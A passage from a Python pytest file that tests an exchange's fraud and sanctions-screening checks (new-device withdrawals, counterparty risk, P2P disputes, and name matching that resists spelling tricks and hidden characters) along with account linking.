    exchange.login(exchange.ago(hours=5), "phone")
    exchange.withdraw(exchange.ago(hours=3), 90.0, device_id=used)
    assert _new_device(ask) == (None, 0)


@pytest.mark.parametrize(("created", "since", "told"), [(800, 0.1, None), (800, 8, 0), (7, 0.1, 0), (8, 0.1, None)])
def test_the_first_login_on_record_of_an_old_account_may_be_a_strangers(exchange, ask, created, since, told):
    exchange.rows["customers"][-1]["created_at"] = exchange.ago(days=created)
    exchange.login(exchange.ago(days=since), "phone")
    exchange.withdraw(exchange.ago(hours=1), 90.0, device_id="phone")
    assert _new_device(ask) == (None, told)
    exchange.login(exchange.ago(hours=0.9), "tablet")
    exchange.withdraw(exchange.ago(hours=0.1), 90.0, device_id="tablet")
    assert (_new_device(ask)[1] is None) is (told is None)


@pytest.mark.parametrize("used", [None, "", "phone", "unseen"])
@pytest.mark.parametrize("seen", [None, "", "tablet", "phone"])
def test_a_device_that_is_not_recorded_may_be_new(exchange, ask, seen, used):
    exchange.login(exchange.ago(days=100), "phone")
    exchange.login(exchange.ago(hours=5), seen)
    exchange.withdraw(exchange.ago(hours=3), 90.0, device_id=used)
    sure = used == "phone" or (seen == "phone" and used != "unseen")
    assert _new_device(ask) == (None, 0 if sure else None)


@pytest.mark.parametrize("used", [None, "phone"])
def test_whoever_withdraws_without_a_login_cannot_be_told(exchange, ask, used):
    exchange.withdraw(exchange.ago(hours=3), 90.0, device_id=used)
    exchange.login(exchange.ago(hours=1), "phone")
    assert _new_device(ask) == (None, None)


def test_a_withdrawal_of_a_whole_day_may_be_made_with_a_device_of_that_day(exchange, ask):
    exchange.login(exchange.ago(days=100), "old")
    midnight = exchange.ago(days=1).replace(hour=0, minute=0, second=0, microsecond=0)
    exchange.login(midnight + timedelta(hours=9), "new")
    exchange.withdraw(midnight, 5.0, device_id=None)
    assert _new_device(ask) == (None, None)


def test_a_device_may_be_old_where_an_earlier_login_names_none(exchange, ask):
    exchange.login(exchange.ago(days=100), None)
    exchange.login(exchange.ago(hours=5), "D1")
    exchange.withdraw(exchange.ago(hours=3), 5.0, device_id="D1")
    assert _new_device(ask) == (None, None)


def test_an_address_may_be_old_where_an_earlier_withdrawal_names_none(exchange, ask):
    exchange.login(exchange.ago(days=100), "D1")
    exchange.withdraw(exchange.ago(days=1), 5.0, chain_address="new")
    assert ask("new_device_withdrawal").facts["takeover.new_address"] is True
    exchange.withdraw(exchange.ago(days=50), 5.0, chain_address=" ")
    assert "takeover.new_address" not in ask("new_device_withdrawal").facts


@pytest.mark.parametrize(("hours", "told"), [(40, 40.0), (60, None)])
def test_what_is_known_of_a_new_device_is_told_where_it_is_soon_enough(exchange, ask, hours, told):
    exchange.login(exchange.ago(days=100), "phone")
    exchange.login(exchange.ago(hours=hours + 1), "stranger's")
    exchange.withdraw(exchange.ago(hours=hours), 10.0, device_id=None)
    exchange.withdraw(exchange.ago(hours=1), 90.0, device_id="stranger's")
    assert _new_device(ask) == (told and pytest.approx(told), 1)


@pytest.mark.parametrize("address", [None, " "])
@pytest.mark.parametrize(
    ("method", "told"), [("chain", None), (None, None), ("", None), ("bank", False), ("p2p", False)]
)
def test_an_address_nobody_recorded_may_be_new(exchange, ask, method, address, told):
    exchange.withdraw(exchange.ago(days=2), 90.0, method=method, chain_address=address)
    assert ask("new_device_withdrawal").facts.get("takeover.new_address") is told
    exchange.withdraw(exchange.ago(days=1), 90.0, chain_address="new wallet")
    assert ask("new_device_withdrawal").facts["takeover.new_address"] is True


def test_counterparty_risk_over_deposits_and_withdrawals(exchange, ask):
    exchange.add("chain_addresses", chain_address="mixer", risk_score=0.9, category="mixer")
    exchange.add("chain_addresses", chain_address="listed", risk_score=0.7, category="sanctioned")
    exchange.add("chain_addresses", chain_address="clean", risk_score=0.1, category="exchange")
    exchange.deposit(exchange.ago(days=80), 100.0, chain_address="mixer")
    exchange.deposit(exchange.ago(days=91), 999.0, chain_address="mixer")
    exchange.withdraw(exchange.ago(days=1), 50.0, chain_address="listed")
    exchange.withdraw(exchange.ago(days=1), 50.0, chain_address="clean")
    assert ask("counterparty_risk").facts == {
        "counterparty.max_risk": 0.9,
        "counterparty.risky_usd": 150.0,
        "counterparty.risky_share": 0.75,
        "counterparty.grave_usd": 150.0,
        "counterparty.sanctioned": True,
    }


@pytest.mark.parametrize("score", [0.1, 0.69, None])
@pytest.mark.parametrize(
    ("category", "risky"), [("Mixer ", 1), ("scam", 1), ("darknet", 1), ("sanctioned", 1), ("defi", 0)]
)
def test_some_categories_are_risky_whatever_the_score(exchange, ask, category, score, risky):
    exchange.add("chain_addresses", chain_address="there", risk_score=score, category=category)
    exchange.withdraw(exchange.ago(days=1), 400.0, chain_address="there")
    facts = ask("counterparty_risk").facts
    assert facts["counterparty.grave_usd"] == 400.0 * risky
    known = risky or score is not None
    assert facts.get("counterparty.risky_usd") == (400.0 * risky if known else None)
    assert facts.get("counterparty.risky_share") == (risky if known else None)
    assert facts.get("counterparty.max_risk") == score


@pytest.mark.parametrize(("usd", "told"), [(9_999.0, None), (10_000.0, 10_000.0)])
def test_a_grave_sum_is_told_although_of_others_nothing_is_known(exchange, ask, usd, told):
    exchange.add("chain_addresses", chain_address="bad", risk_score=0.3, category="scam")
    exchange.withdraw(exchange.ago(days=1), usd, chain_address="bad")
    exchange.withdraw(exchange.ago(days=1), 90_000.0, chain_address="nobody knows")
    assert ask("counterparty_risk").facts.get("counterparty.grave_usd") == told


def test_a_sanctioned_address_is_sanctioned_however_long_ago(exchange, ask):
    exchange.add("chain_addresses", chain_address="listed", risk_score=1.0, category="sanctioned")
    exchange.withdraw(exchange.ago(days=200), 5.0, chain_address="nobody knows")
    assert ask("counterparty_risk").facts["counterparty.sanctioned"] is False
    exchange.withdraw(exchange.ago(days=91), 80_000.0, chain_address="listed")
    facts = ask("counterparty_risk").facts
    assert facts["counterparty.sanctioned"] is True
    assert (facts["counterparty.max_risk"], facts["counterparty.grave_usd"]) == (0.0, 0.0)
    exchange.withdraw(exchange.ago(days=1), 5.0, chain_address="nobody knows")
    assert ask("counterparty_risk").facts == {"counterparty.sanctioned": True}


def test_an_unlisted_counterparty_is_unknown_and_none_at_all_is_no_risk(exchange, ask):
    assert ask("counterparty_risk").facts["counterparty.max_risk"] == 0.0
    exchange.deposit(exchange.ago(days=1), 100.0, chain_address="nobody knows")
    found = ask("counterparty_risk")
    assert (found.facts, len(found.notes)) == ({}, 5)


@pytest.mark.parametrize("address", ["nobody knows", None, ""])
def test_a_clean_counterparty_does_not_speak_for_an_unknown_one_but_a_risky_one_is_told(exchange, ask, address):
    exchange.add("chain_addresses", chain_address="clean", risk_score=0.1, category="exchange")
    exchange.withdraw(exchange.ago(days=1), 1.0, chain_address="clean")
    exchange.withdraw(exchange.ago(days=1), 2_999.0, chain_address=address)
    assert ask("counterparty_risk").facts == {}
    exchange.add("chain_addresses", chain_address="listed", risk_score=0.9, category="sanctioned")
    exchange.withdraw(exchange.ago(days=1), 1.0, chain_address="listed")
    grave = {"counterparty.max_risk": 0.9, "counterparty.sanctioned": True}
    assert ask("counterparty_risk").facts == grave, "dust tells nothing of the value"
    exchange.withdraw(exchange.ago(days=1), 1_999.0, chain_address="listed")
    assert ask("counterparty_risk").facts == {
        "counterparty.max_risk": 0.9,
        "counterparty.risky_usd": 2_000.0,
        "counterparty.risky_share": 0.4,
        "counterparty.sanctioned": True,
    }


def test_p2p_disputes_counts_both_sides_and_what_was_known_at_the_flag(exchange, ask):
    def order(days, **cells):
        usual = {"payer_name_matches": True, "status": "completed", "dispute_opened_at": None, "lost_by": None}
        exchange.add("p2p_orders", at=exchange.ago(days=days), **(usual | {"buyer_id": "C1", "seller_id": "B"} | cells))

    order(10)
    order(20, buyer_id="B", seller_id="C1", payer_name_matches=False)
    order(30, status="disputed", dispute_opened_at=exchange.ago(days=29), lost_by="C1")
    order(1, status="disputed", dispute_opened_at=exchange.ago(days=-1), lost_by="C1")
    order(91, status="disputed", dispute_opened_at=exchange.ago(days=90), lost_by="C1")
    order(5, buyer_id="A", seller_id="B", payer_name_matches=False)
    assert ask("p2p_disputes").facts == {
        "p2p.orders": 4,
        "p2p.disputes": 1,
        "p2p.disputes_lost": 1,
        "p2p.dispute_rate": 1.0,
        "p2p.payer_name_mismatches": 1,
        "p2p.many_payer_names": False,
    }


def _order(exchange, partner="B", days=1.0, **cells):
    usual = {"payer_name_matches": True, "status": "completed", "dispute_opened_at": None, "lost_by": None}
    parties = {"buyer_id": "C1", "seller_id": partner, "at": exchange.ago(days=days)}
    exchange.add("p2p_orders", **(parties | usual | cells))


def test_many_orders_with_a_friend_do_not_hide_disputes_with_others(exchange, ask):
    for place in range(5):
        _order(exchange, f"P{place}", status="disputed", lost_by="C1")
        for _ in range(10):
            _order(exchange, "friend", amount_usd=5.0)
    for nobody in (None, "", "friend"):
        _order(exchange, nobody)
    facts = ask("p2p_disputes").facts
    assert (facts["p2p.orders"], facts["p2p.disputes_lost"]) == (58, 5)
    assert facts["p2p.dispute_rate"] == pytest.approx(5 / 7), "who is not named is one of them"


@pytest.mark.parametrize(("lost_by", "disputes", "lost"), [(None, 0, 0), (" ", 0, 0), ("B", 1, 0), ("C1", 1, 1)])
def test_what_somebody_lost_was_a_dispute(exchange, ask, lost_by, disputes, lost):
    _order(exchange, lost_by=lost_by)
    facts = ask("p2p_disputes").facts
    assert (facts["p2p.disputes"], facts["p2p.disputes_lost"]) == (disputes, lost)


@pytest.mark.parametrize(("since", "disputes"), [(None, None), (92, None), (90, None), (3, 1), (-1, None)])
def test_an_old_order_counts_where_the_dispute_is_of_late(exchange, ask, since, disputes):
    at = None if since is None else exchange.ago(days=since)
    _order(exchange, days=95, status="disputed", dispute_opened_at=at, lost_by="C1")
    facts = ask("p2p_disputes").facts
    assert (facts["p2p.orders"], facts["p2p.disputes_lost"]) == (disputes or 0, disputes or 0)


@pytest.mark.parametrize(("others", "uncompared", "many"), [(9, 0, False), (9, 1, None), (8, 1, False), (10, 5, True)])
def test_orders_in_other_names_are_many_from_ten_on(exchange, ask, others, uncompared, many):
    for matches in [False] * others + [None] * uncompared:
        _order(exchange, payer_name_matches=matches)
    assert ask("p2p_disputes").facts.get("p2p.many_payer_names") is many


@pytest.mark.parametrize(
    ("mismatches", "status", "told"),
    [(0, "completed", None), (0, "cancelled", 0), (2, "completed", None), (3, "completed", 3)],
)
def test_a_payer_who_was_not_compared_may_be_another(exchange, ask, mismatches, status, told):
    for matches in (True, None, *[False] * mismatches):
        exchange.add(
            "p2p_orders", buyer_id="C1", seller_id="B", at=exchange.ago(days=1), payer_name_matches=matches,
            status=status if matches is None else "completed", dispute_opened_at=None,
        )  # fmt: skip
    assert ask("p2p_disputes").facts.get("p2p.payer_name_mismatches") == told


LACKING = [
    ("velocity", "deposits", "at"),
    ("exposure", "deposits", "amount_usd"),
    ("in_out_latency", "withdrawals", "at"),
    ("structuring", "deposits", "amount_usd"),
    ("dormant_burst", "p2p_orders", "at"),
    ("new_device_withdrawal", "account_events", "kind"),
    ("geo_velocity", "logins", "success"),
    ("shared_portraits", "kyc_submissions", "submitted_at"),
    ("p2p_disputes", "p2p_orders", "status"),
    ("support_messages", "support_messages", "direction"),
    ("earlier_cases", "earlier_cases", "outcome"),
]


@pytest.mark.parametrize(("stem", "table", "column"), LACKING)
def test_a_row_that_lacks_what_is_needed_is_a_failed_load(exchange, ask, stem, table, column):
    owner = {"buyer_id": "C1"} if table == "p2p_orders" else {"customer_id": "C1"}
    clock = load_catalogue().table(table).clock
    exchange.add(table, **({clock: exchange.ago(days=-1), column: None} | owner))
    if column != clock:
        ask(stem)  # what comes after the flag changes nothing
    exchange.add(table, **({clock: exchange.ago(days=1), column: None} | owner))
    with pytest.raises(WarehouseError, match=f"table '{table}' lacks a cell"):
        ask(stem)
    if column in ("kind", "status", "outcome"):
        exchange.rows[table][-1][column] = " "
        with pytest.raises(WarehouseError, match="lacks a cell"):
            ask(stem)


def test_a_cell_is_needed_only_by_a_query_that_reads_it(exchange, ask):
    exchange.add("p2p_orders", buyer_id="C1", at=exchange.ago(days=20), status=None)
    assert ask("dormant_burst").facts["activity.dormant_days"] == 352
    with pytest.raises(WarehouseError, match="table 'p2p_orders' lacks a cell that is needed: 'status'"):
        ask("p2p_disputes")


CODED = [
    (tool.name.removeprefix("sql."), table, column.name, f"{table}.{column.name}" in tool.run.strange)
    for tool in load_playbook()
    for table, read in columns_read(tool.run.main.sql, load_catalogue()).items()
    for column in load_catalogue().table(table).coded
    if column.name in read
]


@pytest.mark.parametrize(("stem", "table", "column", "apart"), CODED)
def test_a_word_that_nobody_knows_is_no_answer(exchange, ask, stem, table, column, apart):
    entry = load_catalogue().table(table)
    owner = {"p2p_orders": {"seller_id": "C1"}, "chain_addresses": {}, "watchlist": {}}
    row = {entry.clock: exchange.ago(days=1)} if entry.clock else {}
    row |= owner.get(table, {"customer_id": "C1"})
    exchange.add("watchlist")
    for word in (entry.column(column).codes[-1], "STORNO"):
        if table == "customers":
            exchange.rows[table][-1][column] = word
        else:
            exchange.add(table, **(row | {column: word}))
        if apart or word != "STORNO":
            ask(stem)
    if not apart:
        with pytest.raises(WarehouseError) as caught:
            ask(stem)
        assert f"column '{column}' of table '{table}' holds 'STORNO', which no query knows" in str(caught.value)
    if entry.clock and table != "customers":
        exchange.rows[table][-1][entry.clock] = exchange.ago(days=-1)
        ask(stem)  # what comes after the flag changes nothing


def test_what_a_query_tells_apart_it_compares():
    for tool in load_playbook():
        sql = (FOLDER / f"{tool.name.removeprefix('sql.')}.sql").read_text()
        compared = {f"{table}.{column}" for table, column, _ in words_compared(tool.run.main.sql, load_catalogue())}
        for each in tool.run.strange - compared:
            column = each.partition(".")[2]
            assert re.search(rf"COUNTRY_OF\(\w*\.?{column}\)|{column} BETWEEN", sql), (tool.name, each)


def test_a_list_entry_of_no_list_may_be_a_sanction(exchange, ask):
    exchange.add("watchlist", list=" ", full_name="Anna Example")
    with pytest.raises(WarehouseError, match="table 'watchlist' lacks a cell that is needed: 'list'"):
        ask("name_screening")


def test_the_message_about_strange_words_is_short_and_shows_codes_alone(exchange, desk):
    for number, status in enumerate(("A" * 24, "B" * 24, "Anna Example", "C" * 24, "D" * 24)):
        exchange.withdraw(exchange.ago(days=number + 1), 1.0, status=status)
    there = desk()
    tool = all_tools()["sql.velocity"]
    found = call_tool(tool, "E1", there.subject, there.sources)
    assert isinstance(found, Unavailable)
    assert found.fault == "ours"
    assert "'AAAAAAAAAAAAAAAAAAAAAAAA', what is no code, 'BBBBBBBBBBBBBBBBBBBBBBBB', which" in found.reason
    assert found.reason.endswith("; " + REMEDY), "the reason is not cut"


def test_the_timeline_takes_no_side_in_a_message_of_no_known_direction(exchange, ask):
    for direction in ("customer", "agent", "OUT"):
        exchange.add("support_messages", customer_id="C1", at=exchange.ago(days=1), direction=direction)
    (timeline,) = ask("account_age").exhibits
    said = {event["what"] for event in json.loads(timeline.content)}
    assert said == {"message to support", "message from support", "message to or from support"}


@pytest.mark.parametrize(
    ("category", "sanctioned"), [(" Sanctioned", True), ("OFAC", None), ("", None), ("Mixer ", False)]
)
def test_an_address_of_no_known_category_may_be_sanctioned(exchange, ask, category, sanctioned):
    exchange.add("chain_addresses", chain_address="there", risk_score=0.2, category=category)
    exchange.withdraw(exchange.ago(days=1), 10.0, chain_address="there")
    facts = ask("counterparty_risk").facts
    assert facts.get("counterparty.sanctioned") is sanctioned
    assert facts["counterparty.max_risk"] == 0.2, "its score is known all the same"


def test_what_others_lack_keeps_nobody_waiting(exchange, ask):
    exchange.deposit(exchange.ago(days=1), None, who="other")
    exchange.withdraw(exchange.ago(days=1), 5.0, who="other", status="STORNO")
    assert ask("exposure").facts["exposure.balance_usd"] == 0.0


def _listed(exchange, name, kind="sanctions", born=date(1970, 1, 1), country="UTO", aliases=""):
    exchange.add("watchlist", list=kind, full_name=name, aliases=aliases, birth_date=born, country=country)


@pytest.mark.parametrize(
    ("customer", "listed"),
    [
        ("Anna Example", "EXAMPLE, Anna"),
        ("Jürgen Müller", "Juergen Mueller"),
        ("Сергей Щукин", "Sergei Shchukin"),
        ("Youssef Haddad", "Yusef Hadad"),
        ("Łukasz Wójcik", "LUKASZ WOJCIK"),
    ],
)
def test_name_screening_finds_other_spellings(exchange, ask, customer, listed):
    exchange.rows["customers"][-1].update(full_name=customer, birth_date=date(1970, 1, 1), nationality="UTO")
    _listed(exchange, listed)
    _listed(exchange, "Bertram Quillfeather", kind="pep")
    facts = ask("name_screening").facts
    assert facts["screening.sanctions_score"] > 0.97
    assert facts["screening.birth_date_agrees"] is True
    assert facts["screening.country_agrees"] is True
    assert facts["screening.pep_score"] < 0.75


def test_name_screening_reads_aliases_and_the_declared_name(exchange, ask):
    exchange.rows["customers"][-1].update(full_name="Anna Example", birth_date=date(1980, 2, 3), nationality="UTO")
    _listed(exchange, "Somebody Else", aliases="Nobody|Carla Neumann", born=None, country="XAT")
    before = ask("name_screening")
    assert before.facts["screening.sanctions_score"] < 0.8
    exchange.add("kyc_submissions", customer_id="C1", submitted_at=exchange.ago(days=-1), declared_name="Carla Neumann")
    assert ask("name_screening") == before
    exchange.add("kyc_submissions", customer_id="C1", submitted_at=exchange.ago(days=1), declared_name="NEUMANN Karla")
    found = ask("name_screening")
    assert found.facts["screening.sanctions_score"] > 0.95
    assert found.facts["screening.country_agrees"] is False
    assert "screening.birth_date_agrees" not in found.facts
    assert any(note.startswith("screening.pep_score: there is no list of politically exposed") for note in found.notes)


@pytest.mark.parametrize(("mine", "listed"), [("", ""), ("UTO", " "), ("", "UTO"), (None, "UTO")])
def test_a_country_that_is_blank_neither_agrees_nor_disagrees(exchange, ask, mine, listed):
    exchange.rows["customers"][-1].update(full_name="Anna Example", nationality=mine, residence_country=mine)
    _listed(exchange, "Anna Example", country=listed)
    assert "screening.country_agrees" not in ask("name_screening").facts


def test_names_that_share_one_word_are_less_alike_than_spellings_of_one_name(exchange, ask):
    exchange.rows["customers"][-1].update(full_name="Ali Hassan Karimi", birth_date=date(1980, 2, 3))
    _listed(exchange, "Ali Rezaei")
    assert ask("name_screening").facts["screening.sanctions_score"] < 0.85


@pytest.mark.parametrize("added", ["Maria", "Maria Fernanda", "von und zu Quillfeather", "Bubu Bubu", "Bubu Bubu Bubu"])
def test_words_added_to_a_listed_name_hide_nothing(exchange, ask, added):
    exchange.rows["customers"][-1].update(full_name=f"Bertram {added} Neumann", birth_date=date(1980, 2, 3))
    _listed(exchange, "Bertram Neumann", kind="pep")
    assert ask("name_screening").facts["screening.pep_score"] > 0.97


@pytest.mark.parametrize(
    "written",
    [
        "S\u200be\u200br\u200bg\u200be\u200bj Iv\u2060an\u00adov",
        "\uff33\uff45\uff52\uff47\uff45\uff4a Ivanov",
        "Se\u034frg\u3164ej Ivanov",
    ],
)
def test_marks_nobody_sees_and_wide_letters_hide_no_name(exchange, ask, written):
    exchange.rows["customers"][-1]["full_name"] = written
    _listed(exchange, "Sergej Ivanov")
    assert ask("name_screening").facts["screening.sanctions_score"] == 1.0


def test_a_namesake_does_not_hide_the_entry_with_the_customers_birth_date(exchange, ask):
    me = {"full_name": "Sergej Ivanov", "birth_date": date(1980, 2, 3), "nationality": "UTO"}
    exchange.rows["customers"][-1].update(me)
    _listed(exchange, "Sergej Ivanov", born=date(1955, 5, 5), country="XAT")
    namesake = ask("name_screening").facts
    assert (namesake["screening.sanctions_score"], namesake["screening.birth_date_agrees"]) == (1.0, False)
    _listed(exchange, "Sergej Ivanow Petr", born=None, country="UTO")
    undated = ask("name_screening").facts
    assert undated["screening.country_agrees"] is True
    assert undated["screening.date_unclear"] is True
    assert "screening.birth_date_agrees" not in undated
    _listed(exchange, "Sergei Iwanovitch", born=date(1980, 2, 3), country="XAT")
    _listed(exchange, "Quentin Quill", born=date(1980, 2, 3), country="UTO")
    found = ask("name_screening").facts
    assert 0.85 <= found["screening.sanctions_score"] < 1.0
    assert (found["screening.birth_date_agrees"], found["screening.country_agrees"]) == (True, False)


def _screened(exchange, ask, name, listed, declared=None, **entry):
    exchange.rows["customers"][-1].update(full_name=name, birth_date=date(1965, 7, 4), nationality="UTO")
    if declared:
        exchange.add("kyc_submissions", customer_id="C1", submitted_at=exchange.ago(days=1), declared_name=declared)
    _listed(exchange, listed, **({"born": date(1940, 5, 6)} | entry))
    _listed(exchange, "Quentin Quillfeather", born=date(1933, 3, 3))
    return ask("name_screening").facts


@pytest.mark.parametrize(
    ("name", "listed", "score"),
    [
        ("Vik\u03bf\u03c2 M\u03bfr\u03bfzenk\u03bf", "Vikos Morozenko", 1.0),
        ("محمد الظواهري", "محمد الظواهري", 1.0),
        ("محمد الظواهري Jr", "محمد الظواهري", 0.8),
        ("金正恩", "金正恩", 1.0),
        ("محمد Anna Example", "Anna Example", 0.85),
        ("محمد الظواهري", "Muhammad al Zawahiri", None),
        ("محمد Smith", "محمد الظواهري", None),
        ("Vɩktor M\u1d0fr\u1d0fzenk\u1d0f", "Viktor Anatolyevich Morozenko", None),
        ("Anna ☺ Nobody", "Viktor Morozenko", None),
        ("Seán O´Brien", "Sean OBrien", 1.0),
    ],
)
def test_letters_that_cannot_be_compared_are_no_clean_name(exchange, ask, name, listed, score):
    facts = _screened(exchange, ask, name, listed)
    told = facts.get("screening.sanctions_score")
    assert (told is None) == (score is None)
    assert score is None or told >= score


def test_one_name_that_can_be_compared_does_not_speak_for_one_that_cannot(exchange, ask):
    _listed(exchange, "Quentin Quill", kind="pep")
    facts = _screened(exchange, ask, "أيمن الظواهري", "Ayman al Zawahiri", declared="John Smith")
    assert facts == {"screening.entries_uncompared": 0}


def test_entries_in_letters_that_cannot_be_compared_are_counted(exchange, ask):
    for name, aliases in (("محمد الظواهري", ""), ("金正恩", "Kim Jong-un"), ("გიორგი", "金正恩")):
        _listed(exchange, name, aliases=aliases)
    assert _screened(exchange, ask, "Anna Example", "Carla Neumann")["screening.entries_uncompared"] == 2


@pytest.mark.parametrize(
    "name",
    [
        "Mr Viktor Morozenko",
        "Dr. Viktor Morozenko",
        "Viktor Morozenko Junior Smith",
        "Viktor Petrovich Morozenko",
        "Sheikh Viktor Morozenko",
        "Viktor A. Morozenko",
        "MOROZENKO, VIKTOR A.",
        "V. Morozenko",
        "ViktorMorozenko",
        "MorozenkoViktor",
        "Vik tor Moro zenko",
        "V i k t o r M o r o z e n k o",
    ],
)
def test_a_title_an_initial_a_blank_or_one_word_for_another_hides_nothing(exchange, ask, name):
    facts = _screened(exchange, ask, name, "Viktor Anatolyevich Morozenko")
    assert 0.85 <= facts["screening.sanctions_score"] < 1.0


@pytest.mark.parametrize(
    ("name", "listed"),
    [
        ("Viktor Petrovich Lukin", "Viktor Anatolyevich Morozenko"),
        ("Viktor Anatolyevich Lukin", "Pavel Anatolyevich Morozenko"),
        ("Abu al Masri Hamid", "Abu al Libi Karim"),
        ("Ana bin Ali Lukin", "Eva bin Ali Morozenko"),
        ("Maria Lopez Garcia Ruiz", "Maria Garcia Fernandez Blanco"),
        ("Mr Quill", "Mr Viktor"),
    ],
)
def test_who_shares_one_word_or_small_ones_alone_is_no_hit(exchange, ask, name, listed):
    assert _screened(exchange, ask, name, listed)["screening.sanctions_score"] < 0.85


def test_a_title_is_a_word_of_a_name_that_has_no_two_others(exchange, ask):
    assert _screened(exchange, ask, "Said Sayed", "Sayed Said")["screening.sanctions_score"] == 1.0


def test_with_the_birth_date_of_the_entry_a_lower_likeness_counts(exchange, ask):
    facts = _screened(exchange, ask, "Muhammed Ezzevahiri", "Muhammad al Zawahiri", born=date(1965, 7, 4))
    assert 0.75 <= facts["screening.dated_score"] < 0.85
    for born in (date(1940, 5, 6), date(1965, 7, 5), None):
        exchange.rows["watchlist"].clear()
        facts = _screened(exchange, ask, "Muhammed Ezzevahiri", "Muhammad al Zawahiri", born=born)
        assert facts["screening.dated_score"] == 0


@pytest.mark.parametrize(
    ("born", "agrees"),
    [
        (date(1965, 7, 4), True),
        (date(1965, 4, 7), None),
        (date(1965, 7, 5), None),
        (date(1965, 7, 14), None),
        (date(1966, 7, 4), None),
        (date(1965, 1, 1), None),
        (date(1966, 1, 1), False),
        (date(1965, 7, 13), False),
        (date(1966, 4, 7), False),
        (date(1965, 12, 24), False),
    ],
)
def test_birth_dates_that_a_slip_parts_neither_agree_nor_disagree(exchange, ask, born, agrees):
    facts = _screened(exchange, ask, "Anna Example", "Anna Example", born=born)
    assert facts.get("screening.birth_date_agrees") is agrees
    assert facts["screening.date_unclear"] is (agrees is None)
    assert facts["screening.dated_score"] == (1.0 if agrees else 0.0)


def test_who_is_known_to_be_born_in_a_year_may_be_born_on_any_day_of_it(exchange, ask):
    exchange.rows["customers"][-1].update(full_name="Anna Example", birth_date=date(1965, 1, 1))
    _listed(exchange, "Anna Example", born=date(1965, 9, 30))
    assert "screening.birth_date_agrees" not in ask("name_screening").facts


def test_names_that_nothing_is_alike_to_are_compared_by_letters_alone_and_hits_are_not(exchange, ask):
    for place, name in enumerate(("Viktor Morozenko", "Wiktor Morosenko Petrow", "Viktoria Moroz", "Bertram Neumann")):
        exchange.rows["watchlist"].clear()
        _screened(exchange, ask, "Viktor Morozenko", name)
        rough, fine = (
            ask("name_screening", rough_below=below).facts["screening.sanctions_score"] for below in (0.7, 0.0)
        )
        assert rough == fine if place < 3 else rough <= fine < 0.7


def _persons(exchange, ask, mine=None, **others):
    """What is told of an account, with other accounts by their names."""
    me = {"full_name": "Ann Example", "birth_date": date(1980, 2, 3), "email": "ann@mail.example", "phone": "+49 170 1"}
    exchange.rows["customers"][-1].update(me | (mine or {}))
    exchange.rows["customers"][0].update(full_name="Z", birth_date=None, email=None, phone=None)
    for name, cells in others.items():
        empty = {"full_name": name, "birth_date": date(1971, 1, 2), "email": f"{name}@there.example", "phone": None}
        exchange.customer(name, **(empty | cells))
    return ask("same_person")


@pytest.mark.parametrize(
    ("name", "born", "same"),
    [
        ("EXAMPLE, Ánn", date(1980, 2, 3), 1),
        ("ann  example", date(1980, 2, 3), 1),
        ("Ann Example", date(1980, 2, 4), 0),
        ("Ann Example", None, 0),
        ("Ann Maria Example", date(1980, 2, 3), 0),
    ],
)
def test_one_person_has_one_name_and_one_birth_date(exchange, ask, name, born, same):
    found = _persons(exchange, ask, other={"full_name": name, "birth_date": born})
    assert found.facts["person.accounts_same"] == same
    assert found.facts["person.confirmed_fraud_same"] == 0
    assert found.facts["contact.accounts_sharing"] == 0


@pytest.mark.parametrize(
    ("mine", "theirs", "same"),
    [
        ({"email": "Ann+1@Mail.example"}, {"email": " ann+2@mail.EXAMPLE"}, 1),
        ({"email": "a.n.n@gmail.com"}, {"email": "ann+x@googlemail.com"}, 1),
        ({"email": "a.nn@mail.example"}, {"email": "ann@mail.example"}, 0),
        ({"phone": "+49 170 123-4567"}, {"phone": "0049 (0)170/1234567"}, 1),
        ({"phone": "+49 170 1234567"}, {"phone": "+49 170 1234568"}, 0),
        ({"email": "test@mail.example"}, {"email": "test@mail.example"}, 0),
        ({"phone": "000 000 000"}, {"phone": "000 000 000"}, 0),
        ({"phone": ""}, {"phone": ""}, 0),
        ({"email": "n/a", "phone": "+49 170 1234567"}, {"email": "n/a"}, 0),
    ],
)
def test_an_email_and_a_phone_have_one_spelling(exchange, ask, mine, theirs, same):
    phone = {"phone": "+49 999 1234567"} if "email" in mine else {}
    found = _persons(exchange, ask, phone | mine, other=theirs)
    assert found.facts["contact.accounts_sharing"] == same
    assert len(found.exhibits) == same


def test_fraud_of_the_same_person_and_of_contacts_is_told_apart_and_once(exchange, ask):
    twin = {"full_name": "Example Ann", "birth_date": date(1980, 2, 3), "email": "ann@mail.example"}
    friend = {"email": "ann@mail.example"}
    facts = {
        "person.accounts_same": 1,
        "person.confirmed_fraud_same": 0,
        "contact.accounts_sharing": 1,
        "contact.confirmed_fraud_sharing": 0,
    }
    exchange.add("earlier_cases", customer_id="twin", opened_at=exchange.ago(days=-1), outcome="confirmed_fraud")
    found = _persons(exchange, ask, twin=twin, friend=friend, later=friend | {"created_at": exchange.ago(days=-1)})
    assert found.facts == facts
    exchange.add("earlier_cases", customer_id="twin", opened_at=exchange.ago(days=9), outcome="confirmed_fraud")
    assert ask("same_person").facts == facts | {"person.confirmed_fraud_same": 1}
    exchange.add("earlier_cases", customer_id="friend", opened_at=exchange.ago(days=9), outcome="STORNO")
    del facts["contact.confirmed_fraud_sharing"]
    assert ask("same_person").facts == facts | {"person.confirmed_fraud_same": 1}
    exchange.rows["earlier_cases"][-1]["outcome"] = "confirmed_fraud"
    assert ask("same_person").facts["contact.confirmed_fraud_sharing"] == 1
    (graph,) = ask("same_person").exhibits
    assert {edge[1] + edge[2] for edge in json.loads(graph.content)["edges"]} == {
        "customer:twinsame name and birth date",
        "customer:friendsame e-mail or phone",
    }
    assert not {"Ann", "ann@", "170", "1980"} & set(re.findall(r"\w+@?", graph.content))


@pytest.mark.parametrize("lacking", [{"full_name": "unknown"}, {"full_name": " "}, {"birth_date": None}])
def test_without_a_name_or_a_birth_date_nobody_is_the_same(exchange, ask, lacking):
    facts = _persons(exchange, ask, lacking, other=lacking).facts
    assert facts == {"contact.accounts_sharing": 0, "contact.confirmed_fraud_sharing": 0}


@pytest.mark.parametrize("email", [None, "-", "unknown", "test@mail.example"])
def test_an_account_without_any_contact_may_share_one(exchange, ask, email):
    nothing = {"email": email, "phone": "123"}
    assert set(_persons(exchange, ask, nothing).facts) == {"person.accounts_same", "person.confirmed_fraud_same"}


def test_what_many_accounts_have_is_a_default_and_no_link(exchange, ask):
    every = {"full_name": "Ann Example", "birth_date": date(1980, 2, 3), "email": "ann@mail.example"}
    _persons(exchange, ask, a=every, b=every, c=every)
    assert ask("same_person", default_from=3).facts["person.accounts_same"] == 3
    assert ask("same_person", default_from=2).facts == {}


